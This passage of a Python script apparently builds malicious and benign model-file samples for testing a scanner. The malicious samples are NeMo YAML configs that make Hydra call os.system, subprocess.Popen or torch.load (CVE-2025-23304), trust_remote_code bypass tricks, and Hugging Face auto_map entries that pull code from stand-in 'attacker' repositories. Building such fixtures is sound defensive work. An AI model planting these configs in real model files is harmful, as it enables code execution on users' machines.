     "OmegaConf string interpolation", "os.system",
     "m: os\nf: system\nencoder:\n  _target_: ${m}.${f}\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_env_resolver.nemo", "name read from an environment variable by a resolver (${oc.env:...})",
     "OmegaConf oc.env resolver", "oc.env:NEMO_TARGET",
     "encoder:\n  _target_: ${oc.env:NEMO_TARGET,os.system}\n  _args_: [\"%s\"]\n" % ECHO),
    ("hydra_nemo_target_key.nemo", "model class path in NeMo's `target` key (from_config_dict imports it)",
     "NeMo Serialization.from_config_dict (nemo/core/classes/common.py: import_class_by_path of `target`)",
     "subprocess.Popen", "target: subprocess.Popen\nsample_rate: 16000\n"),
    ("hydra_in_safe_root.nemo", "torch name that compiles and loads C++ (torch.utils.cpp_extension.load_inline)",
     "PyTorch docs: cpp_extension.load_inline builds and imports native code; allowlisted roots are not enough",
     "torch.utils.cpp_extension.load_inline",
     "encoder:\n  _target_: torch.utils.cpp_extension.load_inline\n  name: x\n  cpp_sources: ['int x;']\n"),
]
try:  # python3-omegaconf, when installed, confirms what the loader reads (parsing only, nothing instantiated)
    from omegaconf import OmegaConf
except ImportError:
    OmegaConf = None
for name, tech, src, payload, cfg in NEMO_TRICKS:
    if OmegaConf is not None:
        os.environ.pop("NEMO_TARGET", None)
        c = OmegaConf.to_container(OmegaConf.create(cfg), resolve=True)
        got = c["target"] if "target" in c else c["encoder"]["_target_"]
        assert got == payload or payload.startswith("oc.env") and got == "os.system", (name, got)
    write(MAL, "code/" + name, tar_bytes([("./model_config.yaml", cfg.encode()), ("./model_weights.ckpt", ckpt)]))
    add("code/" + name, "NeMo .nemo (YAML)", tech, "CVE-2025-23304; " + src, "nemo ModelPT.restore_from",
        "model-archive-code", payload)
# Names inside the packages NeMo's fix for CVE-2025-23304 trusts (NeMo,
# PyTorch, Lightning, Megatron, OmegaConf, transformers) that are functions or
# methods loading checkpoints, pickles or a repository's code, and classes
# handed trust_remote_code (issue 13: exact names, never prefixes). Each is
# what hydra.utils.instantiate imports and calls during restore_from.
NEMO_SAFE_ROOT = [
    ("hydra_torch_load.nemo", "torch.load of a pickle shipped next to the config (weights_only=False)",
     "PyTorch docs: torch.load unpickles unless weights_only=True", "torch.load",
     "encoder:\n  _target_: torch.load\n  f: ./model_weights.ckpt\n  weights_only: false\n"),
    ("hydra_jit_load.nemo", "torch.jit.load of a TorchScript archive (its code and pickles run)",
     "PyTorch docs: torch.jit.load runs the archive's TorchScript code", "torch.jit.load",
     "encoder:\n  _target_: torch.jit.load\n  f: ./payload.pt\n"),
    ("hydra_from_pretrained.nemo", "transformers.AutoModel.from_pretrained of another repository with trust_remote_code",
     "Hydra docs (instantiate calls any callable, classmethods too); transformers remote code", "transformers.AutoModel.from_pretrained",
     "encoder:\n  _target_: transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: attacker/payload-repo\n"
     "  trust_remote_code: true\n"),
    ("hydra_pipeline.nemo", "transformers.pipeline (a function) with trust_remote_code: yes (YAML 1.1 true)",
     "transformers.pipeline(trust_remote_code=True); PyYAML reads yes as True", "transformers.pipeline",
     "encoder:\n  _target_: transformers.pipeline\n  task: text-generation\n  model: attacker/payload-repo\n  trust_remote_code: yes\n"),
    ("hydra_load_from_checkpoint.nemo", "LightningModule.load_from_checkpoint unpickles a checkpoint of the attacker's choice",
     "Lightning docs: load_from_checkpoint uses torch.load",
     "pytorch_lightning.LightningModule.load_from_checkpoint",
     "encoder:\n  _target_: pytorch_lightning.LightningModule.load_from_checkpoint\n  checkpoint_path: ./evil.ckpt\n"),
    ("hydra_restore_from.nemo", "nemo.core.ModelPT.restore_from of a second .nemo, whose own config is not the one reviewed",
     "NeMo ModelPT.restore_from (the CVE-2025-23304 loader, nested)", "nemo.core.ModelPT.restore_from",
     "encoder:\n  _target_: nemo.core.ModelPT.restore_from\n  restore_path: ./inner.nemo\n"),
    ("hydra_nemo_from_pretrained.nemo", "ASRModel.from_pretrained downloads and restores a model of the attacker's choice",
     "NeMo ModelPT.from_pretrained (Hugging Face Hub names); nested restore_from", "ASRModel.from_pretrained",
     "target: nemo.collections.asr.models.ASRModel.from_pretrained\nmodel_name: attacker/evil-asr\n"),
    ("hydra_trust_remote_code.nemo", "NeMo's own AutoTokenizer class handed trust_remote_code: true",
     "transformers trust_remote_code (AutoTokenizer.from_pretrained imports the repository's code); issue 13 (SentenceTransformer(..., trust_remote_code=True))",
     "trust_remote_code: true",
     "tokenizer:\n  _target_: nemo.collections.common.tokenizers.huggingface.auto_tokenizer.AutoTokenizer\n"
     "  pretrained_model_name: attacker/tok\n  trust_remote_code: true\n"),
    ("hydra_trust_remote_code_alias.nemo", "trust_remote_code given through an alias of an anchored 'on'",
     "YAML 1.1 booleans (PyYAML: on is True) and aliases", "trust_remote_code: on",
     "flags:\n  remote: &rc on\ntokenizer:\n  _target_: transformers.AutoTokenizer\n  trust_remote_code: *rc\n"),
    ("hydra_trust_remote_code_interp.nemo", "trust_remote_code interpolated from a quoted \"false\" (a non-empty string, true in Python)",
     "OmegaConf interpolation; Python truthiness of str", "trust_remote_code: \"false\"",
     "flags:\n  remote: \"false\"\ntokenizer:\n  _target_: transformers.AutoTokenizer\n  trust_remote_code: ${flags.remote}\n"),
]
for name, tech, src, payload, cfg in NEMO_SAFE_ROOT:
    write(MAL, "code/" + name, tar_bytes([("./model_config.yaml", cfg.encode()), ("./model_weights.ckpt", ckpt)]))
    add("code/" + name, "NeMo .nemo (YAML)", tech, "CVE-2025-23304; NeMo's safe-target fix admits whole packages; " + src,
        "nemo ModelPT.restore_from", "model-archive-code", payload)
write(MAL, "code/hf_config/config.json", json.dumps({"architectures": ["XForCausalLM"], "model_type": "x",
    "auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModelForCausalLM": "attacker/payload-repo--modeling_x.XForCausalLM"}}))
add("code/hf_config/config.json", "Hugging Face config.json", "auto_map sends transformers to another repository's code",
    "transformers dynamic_module_utils ('repo--module.Class'); HF trust_remote_code advisories", "AutoModel.from_pretrained(trust_remote_code=True)",
    "model-hf-remote-code", "attacker/payload-repo")
write(MAL, "code/hf_config/tokenizer_config.json", json.dumps({"tokenizer_class": "XTokenizer",
    "auto_map": {"AutoTokenizer": ["attacker/tok--tokenization_x.XTokenizer", None]}}))
add("code/hf_config/tokenizer_config.json", "Hugging Face tokenizer_config.json", "AutoTokenizer entry in another repository",
    "transformers dynamic_module_utils", "AutoTokenizer.from_pretrained(trust_remote_code=True)", "model-hf-remote-code", "attacker/tok")

write(MAL, "code/hf_pipeline/config.json", json.dumps({"model_type": "bert", "custom_pipelines": {"pair-classification": {
    "impl": "attacker/pipes--pair_classification.PairClassificationPipeline", "pt": ["AutoModelForSequenceClassification"]}}}))
add("code/hf_pipeline/config.json", "Hugging Face config.json", "custom_pipelines impl in another repository",
    "transformers custom pipelines (get_class_from_dynamic_module)", "pipeline(model=..., trust_remote_code=True)",
    "model-hf-remote-code", "attacker/pipes")

# ---------------------------------------------------------------- benign, written by the real libraries where they are packaged
ok = onnx_model("w.bin")
write(BEN, "onnx/external/model.onnx", ok.SerializeToString())
write(BEN, "onnx/external/w.bin", np.zeros(2, dtype="float32").tobytes())
benign.append("onnx/external/model.onnx")
write(BEN, "onnx/graph_first.onnx", reorder(helper.make_model(helper.make_graph([helper.make_node("Relu", ["X"], ["Y"])], "g",
    [helper.make_tensor_value_info("X", TensorProto.FLOAT, [2])], [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [2])])).SerializeToString()))
benign.append("onnx/graph_first.onnx")
write(BEN, "onnx/model.txt", text_format.MessageToString(ok))
write(BEN, "onnx/w.bin", np.zeros(2, dtype="float32").tobytes())
benign.append("onnx/model.txt")
write(BEN, "onnx/model.json", json_format.MessageToJson(ok))
benign.append("onnx/model.json")
write(BEN, "keras/prefixed.keras", keras_zip(seq(dense()), prefix=b"\0" * 512))
benign.append("keras/prefixed.keras")
write(BEN, "keras/folder/config.json", json.dumps(seq(dense(activation="relu"))).encode("utf-16"))
write(BEN, "keras/folder/model.weights.h5", weights_h5())
benign.append("keras/folder/config.json")
benign.append("keras/folder/model.weights.h5")
write(BEN, "code/asr.nemo", tar_bytes([("./model_config.yaml", b"preprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n"
                                        b"optim:\n  sched:\n    _target_: torch.optim.lr_scheduler.CosineAnnealingLR\n"),
                                       ("./model_weights.ckpt", ckpt)]))
benign.append("code/asr.nemo")
# NeMo-style configs with anchors, merge keys and interpolations whose every
# target is NeMo's or PyTorch's own: nothing to report
NEMO_BENIGN = """name: &name Conformer-CTC
sample_rate: &sr 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
model:
  sample_rate: *sr
  encoder_cls: nemo.collections.asr.modules.ConformerEncoder
  train_ds: &ds
    manifest_filepath: ${oc.env:DATA_DIR,/data}/train.json
    sample_rate: ${model.sample_rate}
    batch_size: 16
    shuffle: true
  validation_ds:
    <<: *ds
    shuffle: false
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    sample_rate: ${model.sample_rate}
    window_size: 0.025
  encoder:
    _target_: ${model.encoder_cls}
    feat_in: 80
    n_layers: 2
  decoder: {_target_: nemo.collections.asr.modules.ConvASRDecoder, feat_in: 176, num_classes: -1}
  optim:
    name: adamw
    lr: 0.001
    sched: &sched
      _target_: torch.optim.lr_scheduler.CosineAnnealingLR
      T_max: 1000
  loss:
    target: 0.5
    cls: 3
    target_lang: en
"""
write(BEN, "code/anchors.nemo", tar_bytes([("./model_config.yaml", NEMO_BENIGN.encode()), ("./model_weights.ckpt", ckpt)]))
benign.append("code/anchors.nemo")
write(BEN, "code/hf_config/config.json", json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}))
benign.append("code/hf_config/config.json")
# an ordinary zip whose local header names a member differently (a zip
# writer's quirk, issue 14): no model loader opens it
bio = io.BytesIO()
with zipfile.ZipFile(bio, "w") as z:
    zput(z, "docs/readme.txt", "hello")
    zput(z, "docs/img.txt", "world")
raw = bytearray(bio.getvalue())
i = raw.find(b"docs/readme.txt")  # first occurrence: the local header
raw[i:i + 15] = b"docs/README.txt"
write(BEN, "archives/docs.zip", bytes(raw))
benign.append("archives/docs.zip")
write(BEN, "tf/pbtxt/saved_model.pbtxt", "saved_model_schema_version: 1\nmeta_graphs { graph_def {\n"
      "  node { name: \"x\" op: \"Placeholder\" }\n  node { name: \"v\" op: \"VarHandleOp\" }\n"
      "  node { name: \"r\" op: \"ReadVariableOp\" input: \"v\" }\n  node { name: \"y\" op: \"MatMul\" input: \"x\" input: \"r\" }\n"
      "  node { name: \"s\" op: \"StatefulPartitionedCall\" input: \"y\" attr { key: \"f\" value { func { name: \"__inference_f_1\" } } } }\n"
      "  library { function { signature { name: \"__inference_f_1\" } node_def { name: \"relu\" op: \"Relu\" input: \"a\" } } }\n} }\n")
benign.append("tf/pbtxt/saved_model.pbtxt")

with open(os.path.join(HERE, "manifest.json"), "w") as f:
    json.dump({"malicious": manifest, "benign": benign}, f, indent=1)
print(len(manifest), "malicious,", len(benign), "benign")
